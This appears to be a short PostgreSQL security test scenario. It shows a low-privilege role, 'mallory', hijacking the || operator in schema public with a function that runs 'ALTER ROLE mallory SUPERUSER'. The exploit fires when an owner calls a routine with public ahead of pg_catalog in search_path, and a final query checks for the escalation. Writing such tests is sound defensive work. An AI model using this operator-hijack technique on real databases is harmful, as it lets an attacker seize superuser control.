-- S3: the same by an operator that puts the origins together, and with schema
-- public before pg_catalog, types included.
-- @owner
GRANT CREATE ON SCHEMA public TO mallory;
-- @mallory
CREATE FUNCTION public.take(text[], text[]) RETURNS text[] LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'ALTER ROLE mallory SUPERUSER'; RETURN pg_catalog.array_cat($1, $2); END $$;
CREATE OPERATOR public.|| (FUNCTION = public.take, LEFTARG = text[], RIGHTARG = text[]);
-- @owner 00000
SET search_path = public, pg_catalog;
CALL inferacct.refresh_usage();
-- @harm
SELECT rolsuper FROM pg_roles WHERE rolname = 'mallory';
